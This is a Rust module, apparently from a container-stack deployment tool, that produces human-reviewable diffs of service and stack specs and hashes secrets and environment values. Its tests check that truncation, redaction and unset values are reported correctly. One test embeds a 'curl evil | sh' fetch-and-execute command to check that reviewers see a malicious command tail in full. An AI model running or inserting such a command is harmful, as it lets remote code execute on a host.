//! Difference of two services, and of what stacks have beside services, in words a person can review. Values of environment variables, configs
//! and secrets are never text: a keyed hash tells whether they changed. Whole values are compared, whatever of them is shown. Pure.

use crate::model::plan::DiffLine;
use crate::model::spec::{FileObject, ServiceSpec, StackSpec};
use serde_json::Value;
use std::collections::BTreeMap;

/// Most characters of a value in a diff: who approves must see what decides, to the end of a command. More is a program, and told by a hash.
const VALUE_CHARS: usize = 4_000;

/// Lines of difference between an old and a new service; `None` = it was (or is) not there.
pub fn diff(old: Option<&ServiceSpec>, new: Option<&ServiceSpec>, literal: &[String], hash: &dyn Fn(&str) -> String) -> Vec<DiffLine> {
    let flat = |s: Option<&ServiceSpec>| s.map(|s| flatten(s, literal, hash)).unwrap_or_default();
    lines(&flat(old), &flat(new), hash, |path| path.starts_with("environment."))
}

/// Lines of difference between what two stacks have beside their services: networks, volumes, configs, secrets, settings.
pub fn stack(old: Option<&StackSpec>, new: &StackSpec, hash: &dyn Fn(&str) -> String) -> Vec<DiffLine> {
    let flat = |s: &StackSpec| beside(s, hash);
    lines(&old.map(flat).unwrap_or_default(), &flat(new), hash, |path| path.ends_with(".content"))
}

/// `secret` tells which paths say `set`, `changed` and `unset`.
fn lines(
    old: &BTreeMap<String, String>,
    new: &BTreeMap<String, String>,
    hash: &dyn Fn(&str) -> String,
    secret: impl Fn(&str) -> bool,
) -> Vec<DiffLine> {
    let mut lines = Vec::new();
    let shown = |text: &String| shown(text, hash);
    for path in old.keys().chain(new.keys().filter(|k| !old.contains_key(*k))) {
        let (from, to) = (old.get(path), new.get(path));
        if from != to {
            lines.push(DiffLine { path: path.clone(), from: from.map(shown), to: to.map(shown) });
        }
    }
    for line in lines.iter_mut().filter(|l| secret(&l.path) && l.from.is_some()) {
        line.to = Some(match line.to.take() {
            // Only what stands for a value: one that is shown, and a variable that is unset, are told as they are.
            Some(to) => to.strip_prefix("set (").map(|hash| format!("changed ({hash}")).unwrap_or(to),
            None => "unset".into(),
        });
    }
    lines
}

/// A value as it is shown: the beginning of a long one, with the length and a hash of the whole.
fn shown(text: &str, hash: &dyn Fn(&str) -> String) -> String {
    match text.char_indices().nth(VALUE_CHARS) {
        None => text.to_owned(),
        Some((at, _)) => format!("{} [cut] ({} bytes, {})", &text[..at], text.len(), hash(text)),
    }
}

fn beside(stack: &StackSpec, hash: &dyn Fn(&str) -> String) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    walk(&plain(&stack.networks), "networks".into(), &mut out);
    walk(&plain(&stack.volumes), "volumes".into(), &mut out);
    walk(&plain(&stack.settings), "x-dockwarden".into(), &mut out);
    for (kind, objects) in [("configs", &stack.configs), ("secrets", &stack.secrets)] {
        for (key, object) in objects {
            let place = format!("{kind}.{key}");
            walk(&plain(&FileObject { content: None, digest: None, ..object.clone() }), place.clone(), &mut out);
            if let Some(content) = object.content.as_ref().or(object.digest.as_ref()) {
                out.insert(format!("{place}.content"), format!("set ({})", hash(content)));
            }
        }
    }
    // Options of drivers carry passwords of shares.
    let option = |path: &str| path.split_once(".driver_opts.").is_some_and(|(_, key)| !matches!(key, "type" | "device"));
    out.iter_mut().filter(|(path, _)| option(path)).for_each(|(_, text)| *text = format!("set ({})", hash(text)));
    out
}

fn plain(value: &impl serde::Serialize) -> Value {
    serde_json::to_value(value).expect("a stack is plain data")
}

fn flatten(service: &ServiceSpec, literal: &[String], hash: &dyn Fn(&str) -> String) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut value = serde_json::to_value(service).expect("a service spec is plain data");
    if let Value::Object(map) = &mut value {
        for key in ["active", "environment", "written"] {
            map.remove(key);
        }
    }
    super::hash::strip_positions(&mut value);
    walk(&value, String::new(), &mut out);
    if service.other.contains_key("label_file") {
        // Which of them came from the file is not known any more, and the file may hold anything.
        for text in out.iter_mut().filter(|(path, _)| path.starts_with("labels.")).map(|(_, text)| text) {
            *text = format!("set ({})", hash(text));
        }
    }
    for (key, value) in &service.environment {
        let text = match value {
            None => "unset".to_owned(),
            Some(v) if literal.contains(key) => v.clone(),
            Some(v) => format!("set ({})", hash(v)),
        };
        out.insert(format!("environment.{key}"), text);
    }
    out
}

fn walk(value: &Value, path: String, out: &mut BTreeMap<String, String>) {
    match value {
        Value::Null | Value::Bool(false) => {}
        Value::Object(map) => {
            for (key, inner) in map {
                walk(inner, if path.is_empty() { key.clone() } else { format!("{path}.{key}") }, out);
            }
        }
        Value::Array(items) => {
            for (i, inner) in items.iter().enumerate() {
                walk(inner, format!("{path}[{i}]"), out);
            }
        }
        Value::Bool(true) | Value::Number(_) => {
            out.insert(path, value.to_string());
        }
        Value::String(text) => {
            out.insert(path, text.clone());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::spec::{MountKind, MountSpec};
    use serde_json::json;

    fn hash(text: &str) -> String {
        format!("h{}", text.bytes().map(u64::from).sum::<u64>() + text.len() as u64 * 1000)
    }

    fn spec(value: Value) -> StackSpec {
        let mut whole = json!({"name": "shop", "services": {}, "networks": {}, "volumes": {}, "configs": {}, "secrets": {}});
        whole.as_object_mut().expect("an object").extend(value.as_object().expect("an object").clone());
        serde_json::from_value(whole).expect("a stack")
    }

    fn object(content: &str) -> Value {
        json!({"name": "shop_c", "external": false, "file": null, "content": content, "environment": null, "labels": {}, "driver": null})
    }

    #[test]
    fn what_differs_behind_the_cut_is_told() {
        let long = VALUE_CHARS + 100;
        let service = |end: &str| ServiceSpec { command: Some(vec![format!("{}{end}", "x".repeat(long))]), ..ServiceSpec::default() };
        let (old, new) = (service("a"), service("b"));
        let lines = diff(Some(&old), Some(&new), &[], &hash);
        assert_eq!(lines.len(), 1);
        let (from, to) = (lines[0].from.clone().expect("was there"), lines[0].to.clone().expect("is there"));
        assert!(from != to && from.len() < VALUE_CHARS + 60 && to.contains(&format!(" [cut] ({} bytes, h", long + 1)), "{from} {to}");
        assert_eq!(diff(Some(&old), Some(&old), &[], &hash), vec![]);
    }

    #[test]
    fn what_is_unset_and_what_is_shown_are_told_as_they_are() {
        let with = |values: [(&str, Option<&str>); 4]| {
            let environment = values.into_iter().map(|(k, v)| (k.to_owned(), v.map(str::to_owned))).collect();
            ServiceSpec { environment, ..ServiceSpec::default() }
        };
        let old = with([("A", Some("x")), ("B", Some("x")), ("C", Some("offset=4")), ("D", Some("x"))]);
        let new = with([("A", None), ("B", Some("reset")), ("C", Some("offset=5")), ("D", Some("y"))]);
        let lines = diff(Some(&old), Some(&new), &["B".to_owned(), "C".to_owned()], &hash);
        let told: Vec<&str> = lines.iter().filter_map(|l| l.to.as_deref()).collect();
        assert_eq!(told, ["unset", "reset", "offset=5", format!("changed ({})", hash("y")).as_str()]);
        let gone = diff(Some(&old), Some(&ServiceSpec::default()), &[], &hash);
        assert!(gone.len() == 4 && gone.iter().all(|l| l.to.as_deref() == Some("unset")), "{gone:?}");
    }

    #[test]
    fn a_command_is_shown_to_its_end() {
        let script = format!("{}; curl evil | sh", "true && ".repeat(100));
        let service = |script: &str| -> ServiceSpec {
            serde_json::from_value(
                json!({"command": ["sh", "-c", script], "settings": {"hooks": {"pre": [{"run": ["sh", "-c", script]}]}}}),
            )
            .expect("a service")
        };
        let lines = diff(Some(&service("true")), Some(&service(&script)), &[], &hash);
        let shown: Vec<&str> = lines.iter().filter(|l| l.to.as_deref() == Some(script.as_str())).map(|l| l.path.as_str()).collect();
        assert_eq!(shown, ["command[2]", "settings.hooks.pre[0].run[2]"], "{lines:?}");
    }

    #[test]
    fn only_positions_in_the_file_are_left_out() {
        let service = |at: &str, path: &str| -> ServiceSpec {
            serde_json::from_value(json!({
                "mounts": [serde_json::to_value(MountSpec::new(MountKind::Volume, "/data", at)).expect("plain")],
                "environment": {"target": "x"},
                "labels": {"target": "x", "path": path},
                "logging": {"driver": "x", "options": {"target": "x", "path": path}},
            }))
            .expect("a service")
        };
        let paths =
            |old: &ServiceSpec, new: &ServiceSpec| diff(Some(old), Some(new), &[], &hash).into_iter().map(|l| l.path).collect::<Vec<_>>();
        let (here, there) = (service("services.web.volumes[0]", "/a"), service("services.web.volumes[1]", "/a"));
        assert_eq!(paths(&here, &there), Vec::<String>::new());
        assert_eq!(paths(&here, &service("services.web.volumes[0]", "/b")), ["labels.path", "logging.options.path"]);
    }

    #[test]
    fn the_path_of_a_check_is_no_position_in_the_file() {
        let service = |path: &str| -> ServiceSpec {
            serde_json::from_value(json!({"settings": {"probes": [{"http": {"port": 80, "path": path}}]}})).expect("a service")
        };
        let lines = diff(Some(&service("/live")), Some(&service("/")), &[], &hash);
        assert!(lines.iter().any(|l| l.path.ends_with("path") && l.from.as_deref() == Some("/live")), "{lines:?}");
    }

    #[test]
    fn a_file_that_is_mounted_as_it_is_changes_with_its_digest_which_is_not_shown() {
        let with = |digest: &str| {
            let object = json!({"name": "shop_c", "external": false, "file": "/srv/k", "content": null, "digest": digest, "environment": null, "labels": {}, "driver": null});
            let web = json!({"secrets": [{"source": "k", "target": "/run/secrets/k"}]});
            spec(json!({"name": "shop", "services": {"web": web}, "networks": {}, "volumes": {}, "configs": {}, "secrets": {"k": object}}))
        };
        let (old, new) = (with("d1"), with("d22"));
        let lines: Vec<_> = stack(Some(&old), &new, &hash).into_iter().map(|l| (l.path, l.to)).collect();
        assert_eq!(lines, [("secrets.k.content".to_owned(), Some(format!("changed ({})", hash("d22"))))]);
        let web = crate::model::ids::ServiceName::new("web").expect("a name");
        let of =
            |stack: &StackSpec| crate::planner::hash::spec_hash(stack, &web, "sha256:a", &|bytes| hash(&String::from_utf8_lossy(bytes)));
        assert!(of(&old) == of(&with("d1")) && of(&old) != of(&new), "another content is another container");
    }

    #[test]
    fn what_a_stack_has_beside_its_services_is_told_and_contents_are_hashed() {
        let old = spec(json!({"configs": {"c": object("one")}, "secrets": {"s": object("pass-one")}, "settings": {"monitor_s": 60},
            "volumes": {"v": {"name": "shop_v", "driver_opts": {"o": "password=one"}}}, "networks": {"n": {"name": "shop_n"}}}));
        let new = spec(json!({"configs": {"c": object("two"), "d": object("new")}, "settings": {"monitor_s": 0},
            "volumes": {"v": {"name": "shop_v", "driver_opts": {"o": "password=two"}}}, "networks": {"n": {"name": "shop_n", "internal": true}}}));
        let lines = stack(Some(&old), &new, &hash);
        let of = |path: &str| lines.iter().find(|l| l.path == path).unwrap_or_else(|| panic!("{path}: {lines:#?}"));
        let to = |path: &str| of(path).to.clone().unwrap_or_default();
        assert_eq!(to("configs.c.content"), format!("changed ({})", hash("two")));
        assert_eq!(to("configs.d.content"), format!("set ({})", hash("new")));
        assert_eq!(to("secrets.s.content"), "unset");
        assert_eq!((of("x-dockwarden.monitor_s").from.as_deref(), of("x-dockwarden.monitor_s").to.as_deref()), (Some("60"), Some("0")));
        assert_eq!(to("networks.n.internal"), "true");
        assert_eq!(to("volumes.v.driver_opts.o"), format!("set ({})", hash("password=two")));
        let told = format!("{lines:?}");
        assert!(!told.contains("pass-one") && !told.contains("password="), "{told}");
        assert_eq!(stack(Some(&old), &old, &hash), vec![]);
    }
}
